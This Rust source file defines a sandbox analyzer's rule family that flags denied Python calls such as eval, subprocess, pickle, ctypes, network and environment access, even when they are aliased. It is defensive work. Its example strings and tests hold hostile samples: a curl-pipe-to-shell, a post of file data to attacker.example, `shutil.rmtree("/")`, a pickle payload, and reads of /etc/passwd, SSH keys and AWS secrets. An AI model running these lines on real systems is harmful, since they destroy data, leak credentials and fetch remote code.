//! AL2xx: calls the policy denies (`calls.denied`), whatever they are called through —
//! `import os as o; o.system`, `from os import system as s; s()`, `e = eval; e()`,
//! `getattr(os, "system")()`, `__builtins__.eval()`, `from subprocess import *; run()`.
//!
//! The policy decides *whether* a call is reported; the family below decides its code and
//! severity. A denied callable that is passed or stored instead of called
//! (`map(eval, lines)`, `f = os.system`) is reported too, where it is named.

use ruff_python_ast::{self as ast, AnyNodeRef, ExprContext, ExprRef};
use ruff_text_size::{Ranged, TextSize};

use crate::policy::pattern_matches;
use crate::result::Severity;
use crate::walk::Entry;

use super::{argument, Checker, Family, Rule};

pub const FAMILY: Family = Family {
    title: "calls",
    codes: "AL2xx",
    about: "Calls listed in the policy's `calls.denied` (a trailing `*` matches any \
            suffix). Names are resolved through imports and aliases, so renaming does not \
            hide a call; the tables below give each call its code and severity. A call the \
            policy denies but no family knows is AL200.",
    rules: &[
        &POLICY_CALL,
        &CODE_EXECUTION,
        &DYNAMIC_IMPORT,
        &PROCESS,
        &FILESYSTEM,
        &DESERIALIZATION,
        &NATIVE_CODE,
        &FILE_OPEN,
        &FILE_OUTSIDE,
        &INTERACTIVE,
        &NAMESPACE,
        &NETWORK,
        &INTERPRETER,
        &ENVIRONMENT,
    ],
};

/// AL200: a denied call no family describes.
pub const POLICY_CALL: Rule = Rule {
    code: "AL200",
    name: "denied-call",
    severity: Severity::High,
    summary: "call the policy denies",
    what: "Reports a call listed in `calls.denied` that none of AL201–AL213 describes \
           (an operator's own addition).",
    why: "The operator decided this call should not run in the sandbox.",
    example: "import numpy as np\nnp.load(\"model.npy\", allow_pickle=True)  # if an operator denies numpy.load",
    instead: "Do without the call, or ask the operator why the policy denies it.",
};

/// AL201: eval, exec, compile.
pub const CODE_EXECUTION: Rule = Rule {
    code: "AL201",
    name: "code-execution",
    severity: Severity::Critical,
    summary: "code run from a string (eval, exec, compile)",
    what: "Reports `eval`, `exec` and `compile`, also through `builtins`, `__builtins__`, \
           aliases and `getattr`.",
    why: "Code built at run time escapes every static check: whatever it does, the \
          analyzer cannot see it. It is the core of nearly every obfuscated payload.",
    example: "expr = \"__import__('os').system('id')\"\neval(expr)",
    instead: "Write the computation directly. To read a literal (a list, a dict, a number) \
              from text use `ast.literal_eval`; to evaluate column formulas use \
              `df.eval(\"a + b\")`; to parse JSON use `json.loads`.",
};

/// AL202: importing or running modules by name.
pub const DYNAMIC_IMPORT: Rule = Rule {
    code: "AL202",
    name: "dynamic-import",
    severity: Severity::High,
    summary: "module imported or run by a name given at run time",
    what: "Reports `__import__`, `importlib.import_module`, `importlib.reload`, \
           `importlib.util` loaders, `imp.load_*`, `runpy.run_*`, `zipimport`, and the \
           module's own loader (`__loader__.load_module(\"os\")`). When the name is known \
           statically, the module itself is also checked by AL1xx.",
    why: "A module chosen at run time hides what the code imports — the usual way to reach \
          `os` without writing `import os`.",
    example: "mod = __import__(\"o\" + \"s\")\nmod.system(\"id\")",
    instead: "Import modules with a plain `import` statement at the top of the code.",
};

/// AL203: running other programs.
pub const PROCESS: Rule = Rule {
    code: "AL203",
    name: "process-execution",
    severity: Severity::Critical,
    summary: "another program run (shell, subprocess, exec, fork)",
    what: "Reports `os.system`, `os.popen`, `os.exec*`, `os.spawn*`, `os.posix_spawn*`, \
           `os.fork`, `subprocess.*`, `pty.spawn`, asyncio's subprocess functions and \
           `platform.popen`.",
    why: "A shell or another program is outside the analysis entirely: it is how code \
          reaches tools, the network and the kernel's attack surface.",
    example: "import os as o\no.system(\"curl http://example.com | sh\")",
    instead: "Do the work in Python with the allowed libraries; the sandbox has no tools to \
              call and no use for a shell.",
};

/// AL204: changing or removing files wholesale.
pub const FILESYSTEM: Rule = Rule {
    code: "AL204",
    name: "filesystem-change",
    severity: Severity::High,
    summary: "files or directories removed, moved, or their permissions changed",
    what: "Reports `shutil.rmtree`, `shutil.move`, `shutil.copy*`, `os.remove`, \
           `os.unlink`, `os.rmdir`, `os.rename`, `os.replace`, `os.chmod`, `os.chown`, \
           `os.symlink`, `os.link`, `os.chdir`, `os.chroot` …",
    why: "Analysis code reads its inputs and writes results; deleting, moving or \
          re-permissioning files is destruction or preparation for an escape.",
    example: "import shutil\nshutil.rmtree(\"/\")",
    instead: "Write results to `./outputs/` with pandas or matplotlib (`df.to_csv`, \
              `plt.savefig`); leave other files alone.",
};

/// AL205: deserializing code.
pub const DESERIALIZATION: Rule = Rule {
    code: "AL205",
    name: "unsafe-deserialization",
    severity: Severity::High,
    summary: "data deserialized in a way that runs code (pickle, marshal, yaml.load)",
    what: "Reports `pickle.load(s)`, `pickle.Unpickler`, `marshal.load(s)`, `shelve.open`, \
           `dill`/`cloudpickle` loads, `yaml.load`, `yaml.unsafe_load`, \
           `jsonpickle.decode`.",
    why: "Unpickling calls whatever the payload names (`os.system` via `__reduce__`); \
          `marshal.loads` yields code objects. A payload is code in disguise.",
    example: "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
    instead: "Exchange data as JSON, CSV or Parquet (`json.loads`, `pd.read_csv`, \
              `pd.read_parquet`); for YAML use `yaml.safe_load`.",
};

/// AL206: native code and raw memory.
pub const NATIVE_CODE: Rule = Rule {
    code: "AL206",
    name: "native-code",
    severity: Severity::Critical,
    summary: "native code loaded or raw memory touched (ctypes, cffi)",
    what: "Reports every call into `ctypes`, `_ctypes` and `cffi`.",
    why: "Native calls and raw pointers bypass Python entirely: they can call any libc \
          function, patch the interpreter in memory, or crash it.",
    example: "import ctypes\nctypes.CDLL(None).system(b\"id\")",
    instead: "Use numpy for fast numeric work; it is already compiled code you can call \
              safely.",
};

/// AL207: opening a file.
pub const FILE_OPEN: Rule = Rule {
    code: "AL207",
    name: "file-open",
    severity: Severity::Medium,
    summary: "file opened directly (open, io.open, os.open)",
    what: "Reports `open`, `io.open`, `codecs.open`, `os.open` and `os.fdopen` when the \
           path is relative, in /tmp, or not known statically. (A literal path outside the \
           working directory is AL208.)",
    why: "Notebooks do read the files they were given, so this is medium, not high: worth \
          a look, not a refusal. But a path built at run time can point anywhere the jail \
          lets the code read.",
    example: "with open(\"prices.csv\") as f:\n    header = f.readline()",
    instead: "Read inputs with pandas (`pd.read_csv(\"prices.csv\")`, `pd.read_json`) and \
              write results under `./outputs/` (`df.to_csv(\"outputs/result.csv\")`).",
};

/// AL208: opening a literal path outside the working directory.
pub const FILE_OUTSIDE: Rule = Rule {
    code: "AL208",
    name: "file-outside-workdir",
    severity: Severity::High,
    summary: "file opened outside the working directory",
    what: "Reports `open` and its relatives with a literal path that is absolute (other \
           than under /tmp), starts with `~`, or climbs with `..`.",
    why: "Analysis code has no business with /etc/passwd, /proc/self/environ, ~/.ssh or \
          ../secrets: reading them is reconnaissance, writing them is tampering.",
    example: "open(\"/etc/passwd\").read()",
    instead: "Open only the input files you were given, by their plain name, and write \
              under `./outputs/`.",
};

/// AL209: waiting for a person.
pub const INTERACTIVE: Rule = Rule {
    code: "AL209",
    name: "interactive",
    severity: Severity::Medium,
    summary: "input requested from a person (input, breakpoint, pdb)",
    what: "Reports `input`, `breakpoint`, `pdb.set_trace`, `pdb.run`, `pdb.post_mortem` \
           and `code.interact`.",
    why: "There is no terminal in the sandbox: the call fails with EOFError or waits until \
          the timeout, and a debugger is a prompt for arbitrary code.",
    example: "ticker = input(\"Ticker? \")",
    instead: "Pass parameters as variables of the request (`variables`), or define them at \
              the top of the code.",
};

/// AL210: the namespace as a dictionary.
pub const NAMESPACE: Rule = Rule {
    code: "AL210",
    name: "namespace-access",
    severity: Severity::Medium,
    summary: "the namespace read as a dictionary (globals, locals)",
    what: "Reports `globals()` and `locals()`.",
    why: "The namespace dictionary holds `__builtins__` and every binding; reading or \
          writing names through it hides what the code uses, a common step in escape \
          chains (`globals()[\"__builtins__\"]`).",
    example: "globals()[\"__builtins__\"].eval(\"1 + 1\")",
    instead: "Use ordinary variables, or a dict of your own (`results = {}`; \
              `results[name] = value`).",
};

/// AL211: network.
pub const NETWORK: Rule = Rule {
    code: "AL211",
    name: "network",
    severity: Severity::High,
    summary: "network connection opened (socket, urllib, requests, http)",
    what: "Reports calls into `socket`, `urllib.request`, `urllib2`, `urllib3`, \
           `requests`, `httpx`, `aiohttp`, `http.client`, `ftplib`, `telnetlib`, \
           `smtplib`, `poplib`, `imaplib`, `xmlrpc.client` and `webbrowser`.",
    why: "The sandbox has no network unless the operator grants hosts; code that tries is \
          exfiltrating results or fetching a second stage.",
    example: "import requests\nrequests.post(\"http://attacker.example\", data=open(\"prices.csv\").read())",
    instead: "Send input data with the request (`files`), and return results as output; \
              ask the operator for a network grant if a host is really needed.",
};

/// AL212: controlling the interpreter or other processes.
pub const INTERPRETER: Rule = Rule {
    code: "AL212",
    name: "process-control",
    severity: Severity::High,
    summary: "the process or the interpreter controlled (signals, kill, tracing hooks)",
    what: "Reports `os.kill`, `os.killpg`, `os._exit`, `os.abort`, `os.setuid`, \
           `os.setsid`, `signal.*`, `sys.settrace`, `sys.setprofile`, \
           `sys.addaudithook`, `threading.settrace`, `resource.setrlimit`, `faulthandler.*`.",
    why: "Signals, tracing hooks and limits change how the sandbox supervises the code: \
          ignoring SIGTERM, tracing other frames, killing sibling processes.",
    example: "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)",
    instead: "Let the code end normally; the sandbox applies time and memory limits itself.",
};

/// AL213: the environment.
pub const ENVIRONMENT: Rule = Rule {
    code: "AL213",
    name: "environment",
    severity: Severity::Medium,
    summary: "environment variables read or changed",
    what: "Reports `os.getenv`, `os.putenv`, `os.unsetenv` and calls on `os.environ`.",
    why: "The environment is where secrets live (API keys, tokens); the sandbox clears it, \
          so code that looks is either misconfigured or looking for credentials.",
    example: "import os\nkey = os.getenv(\"AWS_SECRET_ACCESS_KEY\")",
    instead: "Pass configuration as variables of the request (`variables`).",
};

/// Which family describes a denied call: the first whose patterns match.
const FAMILIES: &[(&Rule, &[&str])] = &[
    (&CODE_EXECUTION, &["eval", "exec", "compile", "execfile"]),
    (
        &DYNAMIC_IMPORT,
        &[
            "__import__",
            "__loader__.*",
            "__spec__.loader.*",
            "importlib.*",
            "imp.*",
            "runpy.*",
            "zipimport.*",
            "pkgutil.*",
        ],
    ),
    (
        &PROCESS,
        &[
            "os.system",
            "os.popen",
            "os.exec*",
            "os.spawn*",
            "os.posix_spawn*",
            "os.fork*",
            "os.startfile",
            "subprocess.*",
            "pty.*",
            "asyncio.create_subprocess_*",
            "asyncio.subprocess.*",
            "platform.popen",
            "commands.*",
            "popen2.*",
            "multiprocessing.*",
        ],
    ),
    (
        &FILESYSTEM,
        &[
            "shutil.*",
            "os.remove",
            "os.unlink",
            "os.rmdir",
            "os.removedirs",
            "os.rename",
            "os.renames",
            "os.replace",
            "os.chmod",
            "os.chown",
            "os.lchown",
            "os.truncate",
            "os.symlink",
            "os.link",
            "os.mkfifo",
            "os.mknod",
            "os.chdir",
            "os.chroot",
        ],
    ),
    (
        &DESERIALIZATION,
        &[
            "pickle.*",
            "_pickle.*",
            "cPickle.*",
            "marshal.*",
            "shelve.*",
            "dill.*",
            "cloudpickle.*",
            "yaml.load",
            "yaml.unsafe_load",
            "yaml.full_load",
            "jsonpickle.*",
            "pandas.read_pickle",
            "joblib.load",
        ],
    ),
    (&NATIVE_CODE, &["ctypes.*", "_ctypes.*", "cffi.*"]),
    (
        &FILE_OPEN,
        &["open", "io.open", "codecs.open", "os.open", "os.fdopen"],
    ),
    (
        &INTERACTIVE,
        &["input", "breakpoint", "pdb.*", "code.interact", "help"],
    ),
    (&NAMESPACE, &["globals", "locals", "vars"]),
    (
        &NETWORK,
        &[
            "socket.*",
            "urllib.*",
            "urllib2.*",
            "urllib3.*",
            "requests.*",
            "httpx.*",
            "aiohttp.*",
            "http.*",
            "ftplib.*",
            "telnetlib.*",
            "smtplib.*",
            "poplib.*",
            "imaplib.*",
            "nntplib.*",
            "xmlrpc.*",
            "webbrowser.*",
            "websocket.*",
            "websockets.*",
            "paramiko.*",
        ],
    ),
    (
        &INTERPRETER,
        &[
            "os.kill",
            "os.killpg",
            "os._exit",
            "os.abort",
            "os.set*",
            "signal.*",
            "sys.settrace",
            "sys.setprofile",
            "sys.addaudithook",
            "threading.settrace",
            "threading.setprofile",
            "resource.*",
            "faulthandler.*",
        ],
    ),
    (
        &ENVIRONMENT,
        &["os.getenv*", "os.putenv", "os.unsetenv", "os.environ*"],
    ),
];

/// The rule describing a denied call.
pub fn family_of(name: &str) -> &'static Rule {
    FAMILIES
        .iter()
        .find(|(_, patterns)| patterns.iter().any(|p| pattern_matches(p, name)))
        .map_or(&POLICY_CALL, |(rule, _)| rule)
}

pub(super) fn check(checker: &mut Checker, entry: &Entry) {
    match entry.node {
        AnyNodeRef::ExprCall(call) => {
            let mut reported: Vec<&str> = Vec::new();
            for callee in checker.model.resolve(&*call.func) {
                if !checker.denied_calls.matches(&callee) {
                    continue;
                }
                let mut rule = family_of(&callee);
                let mut detail = rule.summary.to_string();
                if rule.code == FILE_OPEN.code {
                    if let Some(path) = literal_path(checker, call) {
                        if outside_working_dir(&path) {
                            rule = &FILE_OUTSIDE;
                            detail = format!("opens `{path}`, outside the working directory");
                        }
                    }
                }
                if reported.contains(&rule.code) {
                    continue;
                }
                reported.push(rule.code);
                checker.dangerous_call(&callee);
                checker.report(rule, call.start(), format!("call to `{callee}`: {detail}"));
            }
            // getattr(builtins, "eval") names eval without calling it.
            reference(checker, entry, ExprRef::Call(call), call.start());
        }
        AnyNodeRef::ExprName(ast::ExprName {
            ctx: ExprContext::Load,
            ..
        })
        | AnyNodeRef::ExprAttribute(ast::ExprAttribute {
            ctx: ExprContext::Load,
            ..
        })
        | AnyNodeRef::ExprSubscript(ast::ExprSubscript {
            ctx: ExprContext::Load,
            ..
        }) => {
            if let Some(expr) = entry.node.as_expr_ref() {
                reference(checker, entry, expr, entry.node.start());
            }
        }
        _ => {}
    }
}

/// A denied callable named without being called: `map(eval, …)`, `f = os.system`.
/// Only names the policy lists exactly (`subprocess.PIPE` matches `subprocess.*` but is a
/// constant, not a call).
fn reference(checker: &mut Checker, entry: &Entry, expr: ExprRef, offset: TextSize) {
    if let Some(parent) = entry.parent {
        let node = AnyNodeRef::from(expr);
        match parent {
            AnyNodeRef::ExprCall(call) if AnyNodeRef::from(&*call.func).ptr_eq(node) => return,
            AnyNodeRef::ExprAttribute(_) | AnyNodeRef::ExprSubscript(_) => {
                // `x.y` of `x.y.z`, or `x` of `x[…]`: the outer node is what is used.
                return;
            }
            _ => {}
        }
    }
    for name in checker.model.resolve(expr) {
        if checker.denied_calls.matches_exactly(&name) {
            let rule = family_of(&name);
            checker.dangerous_call(&name);
            checker.report(
                rule,
                offset,
                format!(
                    "`{name}` passed or stored without a call here: {}; it can still be \
                     called through the new name",
                    rule.summary
                ),
            );
            return;
        }
    }
}

/// The path an open-like call opens, when it is a literal (or folds to one).
fn literal_path(checker: &Checker, call: &ruff_python_ast::ExprCall) -> Option<String> {
    let arg = argument(call, 0, &["file", "path", "filename"])?;
    let folded = checker.model.fold(arg)?;
    folded.as_str().map(str::to_string)
}

/// True for absolute paths other than under /tmp, `~` paths and paths climbing with `..`.
pub fn outside_working_dir(path: &str) -> bool {
    let path = path.trim();
    if path.starts_with('~') || path.split(['/', '\\']).any(|segment| segment == "..") {
        return true;
    }
    path.starts_with('/') && !(path == "/tmp" || path.starts_with("/tmp/"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn families() {
        assert_eq!(family_of("eval").code, "AL201");
        assert_eq!(family_of("os.execvp").code, "AL203");
        assert_eq!(family_of("subprocess.check_output").code, "AL203");
        assert_eq!(family_of("shutil.rmtree").code, "AL204");
        assert_eq!(family_of("pickle.loads").code, "AL205");
        assert_eq!(family_of("ctypes.CDLL").code, "AL206");
        assert_eq!(family_of("open").code, "AL207");
        assert_eq!(family_of("requests.get").code, "AL211");
        assert_eq!(family_of("os.environ.get").code, "AL213");
        assert_eq!(family_of("numpy.load").code, "AL200");
    }

    #[test]
    fn paths_outside_the_working_directory() {
        for path in [
            "/etc/passwd",
            "~/.ssh/id_rsa",
            "../secrets.txt",
            "data/../../x",
            "/proc/self/environ",
        ] {
            assert!(outside_working_dir(path), "{path}");
        }
        for path in [
            "prices.csv",
            "outputs/result.csv",
            "/tmp/scratch.json",
            "./data.json",
        ] {
            assert!(!outside_working_dir(path), "{path}");
        }
    }
}
